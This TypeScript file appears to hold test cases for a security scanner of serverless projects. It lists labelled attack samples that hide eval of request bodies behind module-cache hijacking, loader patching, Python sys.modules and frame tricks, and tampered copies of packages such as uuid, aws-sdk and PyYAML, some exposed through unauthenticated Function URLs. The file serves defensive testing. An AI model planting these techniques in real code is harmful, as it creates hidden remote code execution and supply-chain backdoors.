import { added, found, foundOrLost, python } from './added.ts';
import type { GateAttack } from './attack.ts';
import { baseFiles, writeFiles } from './base.ts';

/** Attacks by names that stand for something else than a reader sees. */
const names: readonly GateAttack[] = [
  added(
    'a name inside of `with` that is a field of the event',
    { 'evil.js': 'exports.handler = async (event) => { with (event) { return eval(body); } };\n' },
    found,
  ),
  added(
    'a name that `with` sets in the event',
    {
      'evil.js':
        'exports.handler = async (event) => { let text; with (event) { text = body; } return eval(text); };\n',
    },
    found,
  ),
];

const evil = 'async (event) => eval(event.body)';
const harmless = 'exports.handler = async () => ({ statusCode: 200 });\n';
const loadsHelper = `${harmless}require('./helper');\n`;
/** Loads the helper first, then the module whose handler it exports. */
const exportsAnother = "require('./helper');\nmodule.exports = require('./orders');\n";
const evilPython = "def evil(event, context):\n    return eval(event['body'])\n";
const harmlessPython = "def handler(event, context):\n    return {'statusCode': 200}\n";
const loadsHelperInPython = `${harmlessPython}\n\nimport helper\n`;
const callsLen = 'def handler(event, context):\n    return len(event)\n';

/** By what the helper replaces the handler; the helper; the module of the handler, absent = one that loads the helper behind it. */
type ReplacedExport = readonly [by: string, helper: string, handler?: string];

/** Attacks in which a module that the handler loads puts another function in the place of the exported one. */
const replacedExports: readonly GateAttack[] = [
  ...(
    [
      ['module.parent', `module.parent.exports.handler = ${evil};`],
      ['module.parent by its name in brackets', `module['par' + 'ent'].exports.handler = ${evil};`],
      ['module.parent whose exports are replaced', `module.parent.exports = { handler: ${evil} };`],
      [
        'module.parent through a destructured module',
        `const { parent } = module; parent.exports.handler = ${evil};`,
      ],
      [
        'a property that is defined in module.parent',
        `Object.defineProperty(module.parent.exports, 'handler', { value: ${evil} });`,
      ],
      ['module.children of the parent', `module.parent.children[0].exports.handler = ${evil};`],
      ['the cache of modules', `require.cache[require.resolve('./evil')].exports.handler = ${evil};`],
      [
        'every module in the cache',
        `for (const m of Object.values(require.cache)) m.exports.handler = ${evil};`,
      ],
      [
        'a new entry of the cache',
        `require.cache[require.resolve('./evil')] = { exports: { handler: ${evil} } };`,
      ],
      [
        'the cache of the module `module`',
        `const { _cache } = require('module'); for (const k in _cache) _cache[k].exports.handler = ${evil};`,
      ],
      [
        'the loader of modules',
        `const m = require('module'); const old = m._load; m._load = (...a) => { const r = old(...a); if (/orders/.test(a[0])) return { handler: ${evil} }; return r; };`,
        exportsAnother,
      ],
      [
        'the loader of files',
        `const old = require.extensions['.js']; require.extensions['.js'] = (m, f) => { old(m, f); m.exports.handler = ${evil}; };`,
        exportsAnother,
      ],
      [
        'the loader of files of the module `module`',
        `require('module')._extensions['.js'] = (m) => { m.exports = { handler: ${evil} }; };`,
        exportsAnother,
      ],
      [
        'the method that compiles modules',
        `const M = require('module'); M.prototype._compile = function () { this.exports = { handler: ${evil} }; };`,
        exportsAnother,
      ],
      ['the main module', `process.mainModule.exports.handler = ${evil};`],
      ['require.main', `require.main.exports.handler = ${evil};`],
      ['Object.assign to the module', `Object.assign(require('./evil'), { handler: ${evil} });`],
      ['Reflect.set of the module', `Reflect.set(require('./evil'), 'handler', ${evil});`],
      ['the arguments of the function around a module', `arguments[2].parent.exports.handler = ${evil};`],
      [
        'a setter of all objects',
        `Object.defineProperty(Object.prototype, 'handler', { set() { Object.defineProperty(this, 'handler', { value: ${evil} }); } });`,
        exportsAnother,
      ],
    ] as readonly ReplacedExport[]
  ).map(([by, helper, handler = loadsHelper]) =>
    added(
      `a module that replaces the handler by ${by}`,
      {
        'evil.js': handler,
        'helper.js': `${helper}\n`,
      },
      foundOrLost,
    ),
  ),
  ...(
    [
      ['sys.modules', "import sys\n\nsys.modules['evil'].handler = evil\n"],
      [
        'an entry of sys.modules',
        "import sys, types\n\nm = types.ModuleType('evil')\nm.handler = evil\nsys.modules['evil'] = m\n",
      ],
      [
        'every module in sys.modules',
        'import sys\n\nfor m in list(sys.modules.values()):\n    m.handler = evil\n',
      ],
      [
        'setattr of an imported module',
        "import importlib\n\nsetattr(importlib.import_module('evil'), 'handler', evil)\n",
      ],
      ['import of the module', 'import evil as target\n\ntarget.handler = evil\n'],
      ['__dict__ of the module', "import sys\n\nsys.modules['evil'].__dict__['handler'] = evil\n"],
      ['vars of the module', "import sys\n\nvars(sys.modules['evil']).update(handler=evil)\n"],
      ['globals of the caller', "import sys\n\nsys._getframe(1).f_globals['handler'] = evil\n"],
      [
        'globals of a frame',
        "import inspect\n\nfor f in inspect.stack():\n    f.frame.f_globals['handler'] = evil\n",
      ],
      [
        'an import hook',
        "import sys\n\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        import importlib.util\n        return importlib.util.spec_from_file_location('ok', '/var/task/real.py')\n\nsys.meta_path.insert(0, Finder())\n",
        'import helper\nfrom ok import handler\n',
      ],
      [
        'builtins',
        "import builtins\n\nbuiltins.len = lambda event: eval(event['body'])\n",
        `${callsLen}\n\nimport helper\n`,
      ],
    ] as readonly ReplacedExport[]
  ).map(([by, helper, handler = loadsHelperInPython]) =>
    added(
      `a module of Python that replaces the handler by ${by}`,
      {
        'evil.py': handler,
        'ok.py': harmlessPython,
        'helper.py': `${evilPython}\n\n${helper}`,
        'real.py': evilPython.replace('evil(', 'handler('),
      },
      foundOrLost,
      python,
    ),
  ),
  added(
    'a module of Python whose own names are replaced by globals()',
    { 'evil.py': `${harmlessPython}\n${evilPython}\nglobals()['han' + 'dler'] = evil\n` },
    foundOrLost,
    python,
  ),
];

const usesPackage = (name: string, call: string): string =>
  `const { ${call} } = require('${name}');\nexports.handler = async (event) => ${call}(event.body);\n`;
const evilExport = (name: string): string => `exports.${name} = (text) => eval(text);\n`;
const manifest = (name: string): string => JSON.stringify({ name, version: '9.9.9', main: 'index.js' });
const shop = (...names: readonly string[]): string =>
  JSON.stringify({ name: 'shop', dependencies: Object.fromEntries(names.map((name) => [name, '9.9.9'])) });

/** A package that is known by its name, in a folder of the repository, with other code in it. */
const copy = (folder: string, name: string, call: string): Readonly<Record<string, string>> => ({
  [`${folder}/${name}/package.json`]: manifest(name),
  [`${folder}/${name}/index.js`]: evilExport(call),
});

/** Attacks by a copy of a known package, with other code in it. */
const copies: readonly GateAttack[] = [
  added(
    'a copy of a quiet package in node_modules',
    { 'evil.js': usesPackage('uuid', 'validate'), ...copy('node_modules', 'uuid', 'validate') },
    foundOrLost,
  ),
  {
    says: 'a copy of a package that a function used before',
    base: { 'orders.js': usesPackage('uuid', 'validate'), 'package.json': shop('uuid') },
    change: (folder) => writeFiles(folder, copy('node_modules', 'uuid', 'validate')),
    told: foundOrLost,
  },
  {
    says: 'a copy of a scoped package that a function used before',
    base: {
      'orders.js': usesPackage('@aws-sdk/client-s3', 'S3'),
      'package.json': shop('@aws-sdk/client-s3'),
    },
    change: (folder) => writeFiles(folder, copy('node_modules', '@aws-sdk/client-s3', 'S3')),
    told: foundOrLost,
  },
  added(
    'a copy of a quiet package that the manifest lists',
    {
      'evil.js': usesPackage('uuid', 'validate'),
      'package.json': shop('uuid'),
      ...copy('node_modules', 'uuid', 'validate'),
    },
    foundOrLost,
  ),
  added(
    'a copy of a sanitizer in node_modules',
    {
      'evil.js':
        "const escape = require('escape-html');\nexports.handler = async (event) => escape(event.body);\n",
      'node_modules/escape-html/package.json': manifest('escape-html'),
      'node_modules/escape-html/index.js': 'module.exports = (text) => eval(text);\n',
    },
    foundOrLost,
  ),
  added(
    'a copy of an SDK in node_modules',
    {
      'evil.js':
        "const { S3 } = require('aws-sdk');\nexports.handler = async (event) => new S3().getObject({ Bucket: 'b', Key: event.body }).promise();\n",
      'node_modules/aws-sdk/package.json': manifest('aws-sdk'),
      'node_modules/aws-sdk/index.js':
        'exports.S3 = class { getObject(input) { return { promise: async () => eval(input.Key) }; } };\n',
    },
    foundOrLost,
  ),
  added(
    'a package below a copy of a known one',
    {
      'evil.js': usesPackage('uuid', 'validate'),
      'package.json': shop('uuid'),
      'node_modules/uuid/package.json': manifest('uuid'),
      'node_modules/uuid/index.js': "exports.validate = require('helper').run;\n",
      'node_modules/uuid/node_modules/helper/package.json': manifest('helper'),
      'node_modules/uuid/node_modules/helper/index.js': evilExport('run'),
    },
    foundOrLost,
  ),
  added(
    'a copy of a known package in the folder node_modules of the layer',
    {
      'evil.js': usesPackage('uuid', 'validate'),
      ...copy('layer/nodejs/node_modules', 'uuid', 'validate'),
    },
    foundOrLost,
    [
      'FunctionUrlConfig: { AuthType: NONE } }\n',
      'FunctionUrlConfig: { AuthType: NONE }, Layers: [!Ref Shared] }\n  Shared:\n    Type: AWS::Serverless::LayerVersion\n    Properties: { ContentUri: layer }\n',
    ],
  ),
  added(
    'a copy of a known package of Python beside the handler',
    {
      'evil.py': "import yaml\n\ndef handler(event, context):\n    return yaml.safe_load(event['body'])\n",
      'yaml/__init__.py': 'from .core import safe_load\n',
      'yaml/core.py': 'def safe_load(text):\n    return eval(text)\n',
      'PyYAML-6.0.dist-info/METADATA': 'Name: PyYAML\n',
      'PyYAML-6.0.dist-info/top_level.txt': 'yaml\n',
    },
    foundOrLost,
    python,
  ),
  added(
    'a copy of a known package of Python that the requirements list',
    {
      'evil.py': "import yaml\n\ndef handler(event, context):\n    return yaml.safe_load(event['body'])\n",
      'yaml/__init__.py': 'def safe_load(text):\n    return eval(text)\n',
      'requirements.txt': 'yaml==6.0\n',
    },
    foundOrLost,
    python,
  ),
  added(
    'a copy of a known package of Python in a layer',
    {
      'evil.py': "import requests\n\ndef handler(event, context):\n    return requests.get(event['body'])\n",
      'layer/python/requests/__init__.py': 'def get(url):\n    return eval(url)\n',
      'layer/python/requests-2.0.dist-info/top_level.txt': 'requests\n',
    },
    foundOrLost,
    [
      'Runtime: nodejs22.x, Handler: evil.handler, FunctionUrlConfig: { AuthType: NONE } }\n',
      'Runtime: python3.13, Handler: evil.handler, FunctionUrlConfig: { AuthType: NONE }, Layers: [!Ref Shared] }\n  Shared:\n    Type: AWS::Serverless::LayerVersion\n    Properties: { ContentUri: layer }\n',
    ],
  ),
  {
    says: 'other code in a committed copy that a known function loads',
    base: {
      'orders.js': usesPackage('uuid', 'validate'),
      'node_modules/uuid/package.json': manifest('uuid'),
      'node_modules/uuid/index.js': 'exports.validate = (text) => text.length === 36;\n',
      'template.yaml': (baseFiles['template.yaml'] ?? '').replace(
        'orders.handler }',
        'orders.handler, FunctionUrlConfig: { AuthType: NONE } }',
      ),
    },
    change: (folder) => writeFiles(folder, copy('node_modules', 'uuid', 'validate')),
    told: /Anyone can run code in Orders|not read:/,
  },
];

/** Attacks by code that takes the place of other code. */
export const substitutes: readonly GateAttack[] = [...names, ...replacedExports, ...copies];
